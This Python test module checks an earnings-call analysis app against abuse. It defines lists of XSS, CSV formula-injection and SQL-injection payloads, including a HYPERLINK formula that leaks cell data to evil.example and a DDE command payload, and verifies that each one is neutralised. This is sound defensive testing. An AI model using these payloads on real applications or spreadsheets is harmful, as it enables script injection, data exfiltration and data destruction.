"""Abuse: script and markup inside transcripts and search strings stay inert in the real browser, spreadsheet
formulas are neutralised in every CSV the app offers, SQL-looking input changes nothing, the app listens on
loopback only with XSRF protection on, and the Alpha Vantage key shows up nowhere."""
from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import tomllib
import urllib.error
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pandas as pd
import pytest
from apprunner import ROOT, assert_clean, chromium, open_page, page_url, running_app, settle, warm_up
from conftest import missing_prerequisite
from jobwait import wait_for_job

XSS = ["<script>window.__xss=1</script>", '<img src=x onerror="window.__xss=1">',
       "[click for the guidance](javascript:window.__xss=1)",
       '**Guidance** <a href="javascript:window.__xss=1">details</a> <svg onload="window.__xss=1"></svg>',
       '<iframe src="javascript:window.__xss=1"></iframe> $x$ :red[alert] <b onmouseover="window.__xss=1">b</b>']
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for guidance")', "+cmd|' /C calc'!A0 guidance",
            "-2+3 guidance", "@SUM(1+1) guidance"]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
SQL = ["'; DROP TABLE calls; --", '" OR 1=1 --', "x') OR ('1'='1", "1; DELETE FROM sentences"]
FILLER = ("Demand for our products was strong across every region this quarter and we expect gross margins to "
          "hold through the coming year as supply improves. ")
SENTINEL = "SENTINEL-KEY-7f3a9c"


def hostile_transcript(quarter: int) -> bytes:
    """A 'Name: text' call whose prepared remarks and answers carry the payloads as sentences of their own."""
    lines = ["Operator: Good afternoon and welcome to the Evil Corp earnings call. [Operator Instructions]",
             f"Dana Reyes - @SUM(A1) Investor Relations: Thank you. {FILLER * 2}"]
    lines += [f"Lee Okafor - Chief Executive Officer: {payload} {FILLER}" for payload in XSS]
    lines += [f"Lee Okafor - Chief Executive Officer: {payload}. {FILLER}" for payload in FORMULAS]
    lines += ["Operator: Our first question comes from Sam Patel with Northbank Securities.",
              f"Sam Patel: What about guidance {XSS[0]} and {FORMULAS[0]}?",
              f"Lee Okafor: {XSS[1]} We expect guidance to improve in quarter {quarter}. {FILLER}",
              "Operator: That concludes today's call."]
    return "\n".join(lines).encode("utf-8")


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    """Two analysed EVIL calls full of payloads, imported under a hostile file name (skips without the models)."""
    from core.analysis.analyze import Analyzer
    from core.errors import TranscriptError
    from core.ingest.files import import_bytes
    from core.model import Period
    from core.storage.store import Store
    from core.storage.vectors import VectorIndex

    try:
        analyzer = Analyzer()
    except TranscriptError as exc:
        missing_prerequisite(f"the analysis cannot run: {exc}")
    data = tmp_path_factory.mktemp("hostile")
    with Store(data / "calls.duckdb") as store:
        for quarter in (1, 2):
            outcome = import_bytes(store, hostile_transcript(quarter), source=f"=HYPERLINK(\"x\")-q{quarter}.txt",
                                   ticker="EVIL", period=Period(2025, quarter))
            assert outcome.outcome == "inserted", outcome
        with store.transaction() as cur:  # a plain transcript has no date; the pages show one per call
            cur.execute("UPDATE calls SET call_date = make_date(2025, 3 * fiscal_quarter + 1, 15)")
        vectors = VectorIndex(data / "vectors.lance")
        analyzer.run(store, vectors)
        vectors.ensure_index()
    return data


def table_counts(data: Path) -> dict[str, int]:
    from core.storage.store import Store
    from core.storage.vectors import VectorIndex

    with Store(data / "calls.duckdb") as store, store.cursor() as cur:
        names = [r[0] for r in cur.execute("SELECT table_name FROM information_schema.tables").fetchall()]
        counts = {name: cur.execute(f"SELECT count(*) FROM {name}").fetchall()[0][0] for name in sorted(names)}
    counts["lance"] = VectorIndex(data / "vectors.lance").count()
    return counts


# --- XSS in the real browser ------------------------------------------------------------------------------------
INJECTED = """() => ({
    flag: typeof window.__xss,
    scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes('__xss')).length,
    handlers: document.querySelectorAll('[onerror], [onload], [onmouseover]').length,
    javascript: document.querySelectorAll('a[href^="javascript" i], iframe[src^="javascript" i]').length,
    evil: document.querySelectorAll('[data-testid="stMain"] img[src="x"], [data-testid="stMain"] svg[onload]').length,
})"""


@pytest.mark.e2e
@pytest.mark.slow
def test_payloads_in_transcripts_and_searches_render_inert(hostile_dir, tmp_path):
    """Catches: transcript text or a search string rendered as HTML/markdown (unsafe_allow_html, an unescaped
    st.markdown, a javascript: link) on every page that shows transcript text or a search string; tags in a
    transcript never reach the page (stripped at parse time), markdown in it shows as text."""
    with running_app(hostile_dir, log=tmp_path / "app.log") as url, chromium(tmp_path / "profile") as browser:
        warm_up(browser, url)
        visits = {
            "reader": ("reader?call=2", "window.__xss=1"),
            "search": ("search?q=" + urllib.parse.quote(f"guidance {XSS[0]} {XSS[1]}"), "sentences, best first"),
            "search-markdown": ("search?mode=fts&q=" + urllib.parse.quote(XSS[2]), "Search"),
            "topics": ("topics?phrase=" + urllib.parse.quote(XSS[3]), "Phrase trend"),
            "compare": ("compare", "New and vanished phrases"),
            "trends": ("trends", "Trends"),
            "overview": ("overview", "EVIL"),
            "digest": ("digest", "against FY2025 Q1"),
            "analysts": ("analysts", "Sam Patel"),
            "questions": ("questions", "Questions"),
            "guidance": ("guidance", "Guidance"),
        }
        for name, (path, visible) in visits.items():
            page = browser.new_page()
            page.goto(page_url(url, path))
            settle(page)
            page.get_by_text(visible).first.wait_for(timeout=60_000)
            settle(page)
            found = page.evaluate(INJECTED)
            assert found == {"flag": "undefined", "scripts": 0, "handlers": 0, "javascript": 0, "evil": 0}, name
            assert_clean(page)
            page.close()
        page = browser.new_page()
        page.goto(f"{url}/reader?call=2")
        settle(page)
        main = page.locator('[data-testid="stMain"]')  # the sidebar's filters say "Prepared remarks" too
        main.get_by_text(XSS[2]).first.wait_for(timeout=60_000)
        shown = main.inner_text()
        assert XSS[2] in shown and "$x$ :red[alert]" in shown  # markdown in a transcript is shown as text
        for tag in ("<script", "<img", "onerror=", "<svg", "<iframe", "onmouseover="):
            # markup in a transcript is stripped when it is parsed (core/ingest/parsers/markup.py)
            assert tag not in shown
        assert page.evaluate("typeof window.__xss") == "undefined"


# --- CSV formula payloads ---------------------------------------------------------------------------------------
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_cells(data: bytes) -> list[str]:
    """Every cell (and header) of a CSV that a spreadsheet would evaluate as a formula (a plain number is data)."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row
            if cell.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\r=1+1", "=1+1", "-1", "+1", "@A1", "ok\r=1+1", "ok\n@A1"])
@pytest.mark.parametrize("dtype", ["object", "string", "category"])
def test_export_neutralises_formula_text_in_every_kind_of_text_column(value, dtype):
    """Catches: a text column (pandas object, string or categorical dtype) or a header written raw, and a CR or
    LF inside a cell written unquoted (a spreadsheet starts a new row there, and the rest may be a formula)."""
    from core.queries.export import to_csv

    frame = pd.DataFrame({"sentence": pd.Series([value, "plain"], dtype=dtype), value: ["x", "y"],
                          "tone_score": [-0.5, 0.25]})
    data = to_csv(frame)
    assert formula_cells(data) == []
    back = pd.read_csv(io.BytesIO(data))
    assert back["sentence"].tolist() == [value if value.startswith("ok") else "'" + value, "plain"]
    assert back["tone_score"].tolist() == [-0.5, 0.25]  # numbers stay numbers


def test_sentence_export_of_hostile_calls_is_neutralised(hostile_dir):
    """Catches: core.queries.export.sentence_export + to_csv letting a transcript's formula through."""
    from core.queries.export import sentence_export, to_csv
    from core.queries.views import Scope
    from core.storage.store import Store

    with Store(hostile_dir / "calls.duckdb") as store:
        frame = sentence_export(store, scope=Scope())
    raw = [str(v) for v in frame["sentence"].tolist() + frame["role"].tolist()]
    assert any(v.startswith("=HYPERLINK") for v in raw) and any(v.startswith("@SUM") for v in raw)
    data = to_csv(frame)
    assert formula_cells(data) == []
    assert "'=HYPERLINK(" in data.decode("utf-8") and "'@SUM(A1)" in data.decode("utf-8")


PAGE_PARAMS = {"overview": {}, "trends": {}, "topics": {"phrase": "guidance"}, "search": {"q": "guidance"},
               "reader": {"call": "2"}, "compare": {}, "data": {}}


@pytest.mark.slow
def test_every_download_on_every_page_is_neutralised(hostile_dir, monkeypatch, downloads):
    """Catches: a page offering a CSV (st.download_button) built without core.queries.export.to_csv, for any table,
    including the Data page's stored calls (hostile file name) and sentence export."""
    monkeypatch.setenv("EARNINGS_DATA_DIR", str(hostile_dir))
    per_page = {}
    for page, params in PAGE_PARAMS.items():
        start = len(downloads)
        open_page(page, params=params)
        per_page[page] = downloads[start:]
    assert all(per_page.values()), {p: len(d) for p, d in per_page.items()}  # every page offers a CSV
    for page, files in per_page.items():
        for label, data in files:
            assert formula_cells(data) == [], (page, label)
    everything = b"".join(data for files in per_page.values() for _, data in files).decode("utf-8")
    for neutralised in ("'=HYPERLINK(", "'@SUM(", "'+cmd|", "'-2+3"):
        assert neutralised in everything  # the payloads were in the exports, defused


# --- SQL-looking input ------------------------------------------------------------------------------------------
def test_sql_looking_input_to_queries_changes_nothing(hostile_dir):
    """Catches: a search string, ticker, topic or phrase spliced into DuckDB or LanceDB SQL."""
    from core.embedding import load_encoder
    from core.errors import ConfigError
    from core.queries import rollups, views
    from core.queries.export import sentence_export
    from core.queries.views import Scope
    from core.storage.store import Store
    from core.storage.vectors import VectorIndex

    before = table_counts(hostile_dir)
    encoder = load_encoder()
    vectors = VectorIndex(hostile_dir / "vectors.lance", encoder=encoder)
    with Store(hostile_dir / "calls.duckdb") as store:
        for text in SQL:
            for mode in ("vector", "fts", "hybrid"):
                assert len(vectors.search(text, mode=mode, k=5)) <= 5
            for bad in ({"tickers": [text]}, {"topics": [text]}, {"sections": [text]}, {"speaker_groups": [text]}):
                with pytest.raises(ConfigError, match="not a valid"):
                    vectors.search("guidance", **bad)
            scope = Scope(tickers=(text,))
            assert views.call_list(store, scope=scope).empty
            assert sentence_export(store, scope=scope).empty
            vector = encoder.encode_query(text).tolist()
            assert rollups.phrase_trend(store, ticker=text, vector=vector).empty
            assert len(rollups.phrase_trend(store, ticker="EVIL", vector=vector)) == 2
    assert table_counts(hostile_dir) == before


@pytest.mark.slow
def test_sql_looking_input_in_the_app_and_cli_changes_nothing(hostile_dir, monkeypatch, tmp_path):
    """Catches: URL parameters (filters, search, phrase, reader call) or CLI arguments reaching SQL as text, and
    an exception instead of an empty result."""
    before = table_counts(hostile_dir)
    monkeypatch.setenv("EARNINGS_DATA_DIR", str(hostile_dir))
    for text in SQL[:2]:
        for page, params in {"search": {"q": text, "ticker": text}, "topics": {"phrase": text},
                             "reader": {"call": f"1 {text}", "at": text}, "trends": {"section": text},
                             "overview": {"ticker": text, "speaker": text}}.items():
            open_page(page, params=params)
    assert table_counts(hostile_dir) == before
    data = tmp_path / "data"  # a copy: this process's app resources still hold the fixture's database
    shutil.copytree(hostile_dir, data)
    env = {"EARNINGS_DATA_DIR": str(data), "PATH": "/usr/bin:/bin"}
    for args in (["search", SQL[0]], ["search", SQL[1], "--mode", "fts"], ["trends", "EVIL"], ["calls"]):
        run = subprocess.run([sys.executable, "-m", "core", *args], cwd=ROOT, env=env, capture_output=True,
                             text=True, timeout=300)
        assert run.returncode == 0 and "Traceback" not in run.stderr, (args, run.stderr)
    run = subprocess.run([sys.executable, "-m", "core", "search", "x", "--topic", SQL[0]], cwd=ROOT, env=env,
                         capture_output=True, text=True, timeout=300)
    assert (run.returncode, run.stderr.strip()) == (1, f"error: not a valid topic: {SQL[0]!r}")
    assert table_counts(data) == before


# --- binding, XSRF, secrets -------------------------------------------------------------------------------------
def test_config_binds_to_loopback_with_xsrf_on():
    """Catches: a config or `make run` that listens on every interface or turns XSRF protection off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    assert config["server"].get("enableXsrfProtection", True) is True
    run_recipe = (ROOT / "Makefile").read_text(encoding="utf-8").split("\nrun:")[1].split("\n\n")[0]
    assert "--server.address 127.0.0.1" in run_recipe


def other_addresses() -> list[str]:
    """This machine's non-loopback IPv4 addresses."""
    try:
        out = subprocess.run(["hostname", "-I"], capture_output=True, text=True, timeout=10).stdout
    except OSError:
        return []
    return [a for a in out.split() if "." in a and not a.startswith("127.")]


@contextlib.contextmanager
def non_loopback_addresses():
    """This machine's non-loopback addresses plus one added to lo for the duration (as root), so that the check
    also runs on a machine without a network; skips when there is none (fails under CI=1)."""
    addresses = other_addresses()
    extra = f"198.18.{os.getpid() // 254 % 256}.{1 + os.getpid() % 254}"  # the benchmarking range, unrouted
    try:
        added = subprocess.run(["ip", "addr", "add", f"{extra}/32", "dev", "lo"], capture_output=True, text=True,
                               timeout=10)
    except OSError as exc:
        added = subprocess.CompletedProcess([], 1, "", str(exc))
    if added.returncode == 0:
        addresses.append(extra)
    elif not addresses:
        missing_prerequisite(f"no non-loopback address (hostname -I), and none can be added to lo: {added.stderr}")
    try:
        yield addresses
    finally:
        if added.returncode == 0:
            subprocess.run(["ip", "addr", "del", f"{extra}/32", "dev", "lo"], check=True, timeout=10)


def refused(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=3):
            return False
    except OSError:
        return True


@pytest.mark.e2e
@pytest.mark.slow
def test_started_app_listens_on_loopback_only_and_rejects_cross_site_uploads(tmp_path):
    """Catches: the default app reachable from the network, and file uploads accepted without the XSRF token."""
    with non_loopback_addresses() as addresses, running_app(tmp_path / "empty", address=None) as url:
        port = int(url.rsplit(":", 1)[1])
        assert not refused("127.0.0.1", port)
        with socket.create_server(("0.0.0.0", 0)) as control:  # what listening on every interface would do
            for address in addresses:
                assert not refused(address, control.getsockname()[1]), f"{address} is not reachable here at all"
                assert refused(address, port), f"the app answers on {address}:{port}"
        body = (b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.txt\"\r\n"
                b"Content-Type: text/plain\r\n\r\nOperator: hello\r\n--b--\r\n")
        request = urllib.request.Request(f"{url}/_stcore/upload_file/session/file", data=body, method="PUT",
                                         headers={"Content-Type": "multipart/form-data; boundary=b",
                                                  "Origin": "http://evil.example"})
        with pytest.raises(urllib.error.HTTPError) as rejected:
            urllib.request.urlopen(request, timeout=10)
        assert rejected.value.code == 403
        assert rejected.value.read() == b"XSRF token missing or invalid"


class _EchoingAlphaVantage(BaseHTTPRequestHandler):
    """A hostile Alpha Vantage stand-in: its error message echoes the whole request, key included."""

    def do_GET(self):  # noqa: N802 (http.server's name)
        body = json.dumps({"Error Message": f"Invalid API call for {self.path}"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.mark.e2e
@pytest.mark.slow
def test_api_key_never_appears_in_pages_logs_or_exports(hostile_dir, tmp_path):
    """Catches: the Alpha Vantage key leaking through a fetch error shown on the page, the server log, the
    stored documents or the stored-calls CSV (the stand-in server puts the key into its error message)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _EchoingAlphaVantage)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    env = {"ALPHAVANTAGE_API_KEY": SENTINEL, "ALPHAVANTAGE_BASE_URL": f"http://127.0.0.1:{server.server_port}"}
    data = tmp_path / "data"
    shutil.copytree(hostile_dir, data)
    log = tmp_path / "app.log"
    try:
        with running_app(data, env=env, log=log) as url, chromium(tmp_path / "profile") as browser:
            warm_up(browser, url)
            page = browser.new_page()
            page.goto(f"{url}/data")
            settle(page)
            form = page.locator('[data-testid="stForm"]').filter(has_text="Last N quarters")
            form.get_by_label("Ticker").fill("NVDA")
            form.get_by_label("Last N quarters").fill("1")
            form.get_by_role("combobox").first.click()  # the Source select box
            page.get_by_role("option", name="alphavantage").click()
            form.get_by_text("Analyse the new calls afterwards").click()
            form.get_by_role("button", name="Fetch").click()
            page.get_by_text("Fetch of NVDA: job #").wait_for(timeout=120_000)
            from core.storage.store import Store
            from core.work import jobs

            (fetch,) = [j for j in jobs.recent(Store(data / "calls.duckdb")) if j.kind == "fetch"]
            assert wait_for_job(data / "calls.duckdb", fetch.job_id).state == "failed"  # run by the app's worker
            page.goto(f"{url}/data")
            settle(page)
            page.get_by_role("tab", name="Jobs").click()
            page.get_by_text("Invalid API call").first.wait_for(timeout=60_000)  # the job's log, on the page
            settle(page)
            shown = page.content() + page.inner_text("body")
            assert "Invalid API call" in shown  # the server's message reached the page …
            assert SENTINEL not in shown         # … without the key
            for name in ("overview", "trends", "search?q=guidance", "reader?call=1", "compare", "topics"):
                page.goto(page_url(url, name))
                settle(page)
                assert SENTINEL not in page.content()
            page.close()
        assert SENTINEL not in log.read_text(encoding="utf-8", errors="replace")
        assert SENTINEL not in (data / "worker.log").read_text(encoding="utf-8", errors="replace")
    finally:
        server.shutdown()
    from core.queries.export import to_csv
    from core.storage.store import Store

    with Store(data / "calls.duckdb") as store, store.cursor() as cur:
        documents = cur.execute("SELECT * FROM documents").df()
        assert SENTINEL.encode() not in to_csv(documents.drop(columns=["content"]))
        assert not any(SENTINEL.encode() in bytes(c) for c in documents["content"])
        for table in ("jobs", "job_log"):  # the job's arguments, error and log lines
            assert SENTINEL not in cur.execute(f"SELECT * FROM {table}").df().to_csv()
